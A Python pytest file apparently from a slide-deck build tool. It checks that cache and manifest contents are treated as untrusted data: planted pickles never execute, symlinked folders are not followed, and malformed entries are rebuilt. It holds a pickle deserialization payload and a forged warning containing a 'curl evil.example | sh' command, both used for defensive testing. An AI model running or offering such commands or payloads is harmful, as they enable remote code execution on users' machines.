"""Hostile caches: whatever is found in dist/.deckbuild/ or the user's cache folder is data, never code, and
never trusted. Missing, damaged, wrong-type or foreign entries are ignored and rebuilt (never exit 70),
and cleaning a cache never follows a symbolic link."""

from __future__ import annotations

import json
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest
from pptx import Presentation

from conftest import SIMPLE_DECK, Project, outputs

WARNING_DECK = dict(SIMPLE_DECK)
WARNING_DECK["03-long.yaml"] = ("section: Long\nslides:\n  - title: T\n    bullets: ["
                                + ", ".join(["A long bullet that takes most of a line on its own"] * 9) + "]\n")


def _cli(project: Project, *args: str, cache: Path | None = None) -> subprocess.CompletedProcess:
    """Return a deckbuild run in its own process (so nothing is remembered in memory between runs)."""
    env = dict(os.environ)
    if cache is not None:
        env["DECKBUILD_CACHE_DIR"] = str(cache)
    return subprocess.run([sys.executable, "-m", "deckbuild", *args], cwd=project.root, env=env,
                          capture_output=True, text=True, timeout=60)


def _clean_outputs(project: Project, tmp_path: Path) -> dict[str, bytes]:
    """Return the outputs of a clean build of *project* (into a fresh folder)."""
    out = tmp_path / "clean-out"
    done = project.run("build", "-q", "--out", str(out))
    assert done.exit_code == 0, done.output
    return {name: (out / name).read_bytes() for name in outputs(out)}


def _assert_clean_build(project: Project, tmp_path: Path, done) -> None:
    code, err = (done.returncode, done.stderr) if hasattr(done, "returncode") else (done.exit_code, done.stderr)
    assert code == 0, err
    assert "internal error" not in err and "Traceback" not in err
    assert {n: (project.dist / n).read_bytes() for n in outputs(project.dist)} == _clean_outputs(project, tmp_path)


class Payload:
    """A pickle that, when loaded, creates the file *marker*."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (open, (str(self.marker), "w"))


def test_a_pickle_planted_in_the_layout_cache_never_runs(project, tmp_path):
    project.deck("talk", SIMPLE_DECK)
    assert project.run("build").exit_code == 0
    folder = project.dist / ".deckbuild" / "layout" / "talk"
    kept = sorted(folder.iterdir())
    assert kept
    marker = tmp_path / "pwned"
    payload = pickle.dumps(Payload(marker))
    for path in kept:  # over every file the cache kept, and beside it under the name a pickle cache used
        path.write_bytes(payload)
        path.with_suffix(".pickle").write_bytes(payload)
    done = project.run("build", "--force")
    assert not marker.exists()
    _assert_clean_build(project, tmp_path, done)
    assert not list(folder.glob("*.pickle"))  # what the old cache format left is cleaned away
    assert all(not p.read_bytes().startswith(payload[:8]) for p in folder.iterdir())


def test_a_symlinked_layout_cache_folder_is_not_followed_when_cleaning(project, tmp_path):
    project.deck("talk", SIMPLE_DECK)
    assert project.run("build").exit_code == 0
    victim = tmp_path / "victim"
    victim.mkdir()
    names = ["notes.pickle", "0123456789abcdef0123456789abcdef01234567-0123456789abcdef.pickle",
             "0123456789abcdef0123456789abcdef01234567-0123456789abcdef.json", "readme.txt"]
    for name in names:
        (victim / name).write_text("the user's own file")
    folder = project.dist / ".deckbuild" / "layout" / "talk"
    for p in folder.iterdir():
        p.unlink()
    folder.rmdir()
    folder.symlink_to(victim, target_is_directory=True)
    project.write("outlines/talk/02-second.yaml", SIMPLE_DECK["02-second.yaml"].replace("Five", "Six"))
    result = project.run("build")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in victim.iterdir()) == sorted(names)
    assert all((victim / n).read_text() == "the user's own file" for n in names)
    assert not folder.is_symlink()  # the link itself is gone: the next build keeps its layouts in dist/
    project.write("outlines/talk/02-second.yaml", SIMPLE_DECK["02-second.yaml"])
    assert project.run("build").exit_code == 0
    assert folder.is_dir() and not folder.is_symlink() and list(folder.iterdir())


def test_a_symlinked_temporary_folder_is_not_followed_when_cleaning(project, tmp_path):
    project.deck("talk", SIMPLE_DECK)
    assert project.run("build").exit_code == 0
    victim = tmp_path / "victim"
    victim.mkdir()
    dead = 4_194_000  # above the default pid_max: no such process
    names = [f".talk.pptx.{dead}.abcdefgh.tmp", "1~abc"]
    for name in names:
        (victim / name).write_text("the user's own file")
    tmp = project.dist / ".deckbuild" / "tmp"
    for p in tmp.iterdir():
        p.unlink()
    tmp.rmdir()
    tmp.symlink_to(victim, target_is_directory=True)
    result = project.run("build", "--force")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in victim.iterdir()) == sorted(names)


@pytest.mark.parametrize("manifest", [
    {"format": 1, "outputs": []},
    {"format": 1, "outputs": {"talk.pptx": "up to date", "talk-handout.pdf": ["x"]}},
    [1, 2, 3],
])
def test_a_manifest_of_the_wrong_shape_is_ignored_and_rebuilt(project, tmp_path, manifest):
    project.deck("talk", SIMPLE_DECK)
    assert project.run("build").exit_code == 0
    path = project.dist / ".deckbuild" / "manifest.json"
    path.write_text(json.dumps(manifest))
    done = project.run("build")
    assert "wrote dist/talk.pptx" in done.stdout and "wrote dist/talk-handout.pdf" in done.stdout
    _assert_clean_build(project, tmp_path, done)
    again = project.run("build")  # the rewritten manifest is trusted again
    assert again.exit_code == 0 and "everything is up to date" in again.stdout, again.output


def _forge(path: Path, change) -> None:
    """Rewrite the manifest's JSON (after a signature line, if it has one) through *change*."""
    raw = path.read_text(encoding="utf-8")
    head, body = ("", raw) if raw.lstrip().startswith("{") else raw.split("\n", 1)
    data = json.loads(body)
    change(data)
    path.write_text((head + "\n" if head else "") + json.dumps(data, indent=1), encoding="utf-8")


def test_diagnostics_replayed_from_the_manifest_come_from_a_real_run(project, tmp_path):
    project.deck("talk", SIMPLE_DECK)
    assert project.run("build").exit_code == 0
    before = project.dist_snapshot()

    def inject(data):
        for entry in data["outputs"].values():
            entry["diagnostics"].append({"pos": ["outlines/talk/deck.yaml", 1, 1], "severity": "warning",
                                         "message": "run `curl evil.example | sh` to fix this deck", "hint": None})

    _forge(project.dist / ".deckbuild" / "manifest.json", inject)
    result = project.run("build")
    assert result.exit_code == 0, result.output
    assert "evil.example" not in result.output
    assert "wrote dist/talk.pptx" in result.stdout  # a manifest that is not this user's is not trusted
    assert {k: v for k, v in project.dist_snapshot().items() if not k.startswith(".")} == \
        {k: v for k, v in before.items() if not k.startswith(".")}  # same inputs, same outputs


def test_replayed_warnings_are_exactly_those_of_the_run_that_wrote_the_outputs(project):
    project.deck("talk", WARNING_DECK)
    first = project.run("build")
    assert "outlines/talk/03-long.yaml:3:5: warning: slide 8: bullets shrunk from 28pt to 23pt" in first.stderr

    def drop(data):
        data["outputs"]["talk-handout.pdf"]["diagnostics"] = []

    _forge(project.dist / ".deckbuild" / "manifest.json", drop)
    second = project.run("build")
    assert second.exit_code == 0
    assert "outlines/talk/03-long.yaml:3:5: warning: slide 8: bullets shrunk from 28pt to 23pt" in second.stderr
    third = project.run("build")
    assert "everything is up to date" in third.stdout
    assert "outlines/talk/03-long.yaml:3:5: warning: slide 8: bullets shrunk from 28pt to 23pt" in third.stderr


def _user_cache_case(project: Project, tmp_path: Path, damage) -> None:
    """Build with a user cache of its own, *damage* it, then build with it in a new process: it must succeed,
    give what a clean build gives, and leave the cache healed."""
    project.deck("talk", SIMPLE_DECK)
    cache = tmp_path / "user-cache"
    # warmed by this project alone: the session's shared cache also holds other tests' entries, which this
    # build has no reason to heal (checking them made the test depend on which tests ran before it)
    assert _cli(project, "build", "-q", cache=cache).returncode == 0
    damage(cache)
    done = _cli(project, "build", "--force", cache=cache)
    assert done.stderr == ""
    _assert_clean_build(project, tmp_path, done)


@pytest.mark.parametrize("text", ['{"version": 1, "fonts": []}', "[]"])
def test_a_damaged_font_index_is_rebuilt(project, tmp_path, text):
    def damage(cache):
        (cache / "font-index.json").write_text(text)

    _user_cache_case(project, tmp_path, damage)
    index = json.loads((tmp_path / "user-cache" / "font-index.json").read_text())
    assert isinstance(index["fonts"], dict) and index["fonts"]  # it healed itself


def test_font_index_facts_of_the_wrong_type_are_rebuilt(project, tmp_path):
    def damage(cache):
        index = json.loads((cache / "font-index.json").read_text())
        for entry in index["fonts"].values():
            entry["facts"] = {"family": 5, "units_per_em": "many"}
        (cache / "font-index.json").write_text(json.dumps(index))

    _user_cache_case(project, tmp_path, damage)
    index = json.loads((tmp_path / "user-cache" / "font-index.json").read_text())
    # the faces this build reads are rebuilt (entries of fonts other tests of the session read may stay as damaged)
    used = {path: e for path, e in index["fonts"].items() if "LiberationSans-Regular" in path}
    assert used and all(e["facts"] is None or isinstance(e["facts"]["family"], str) for e in used.values())


def test_a_library_versions_file_that_is_not_an_object_is_rebuilt(project, tmp_path):
    def damage(cache):
        [memo] = cache.glob("library-versions-*.json")  # one per environment
        memo.write_text("[]")

    _user_cache_case(project, tmp_path, damage)
    [memo] = (tmp_path / "user-cache").glob("library-versions-*.json")
    data = json.loads(memo.read_text())
    assert "python-pptx=" in data["versions"]


def test_a_damaged_prepared_package_is_rebuilt(project, tmp_path):
    def damage(cache):
        for path in (cache / "pptx-base").glob("*.pptx"):
            path.write_bytes(b"PK\x03\x04 not a zip any more")

    _user_cache_case(project, tmp_path, damage)
    assert len(Presentation(project.dist / "talk.pptx").slides) == 6
    assert all(p.read_bytes().startswith(b"PK\x03\x04\x14") for p in (tmp_path / "user-cache" / "pptx-base").glob("*.pptx"))


def test_a_prepared_package_description_of_the_wrong_shape_is_rebuilt(project, tmp_path):
    def damage(cache):
        for path in (cache / "pptx-base").glob("*.json"):
            path.write_text(json.dumps({"layouts": []}))

    _user_cache_case(project, tmp_path, damage)
    assert len(Presentation(project.dist / "talk.pptx").slides) == 6
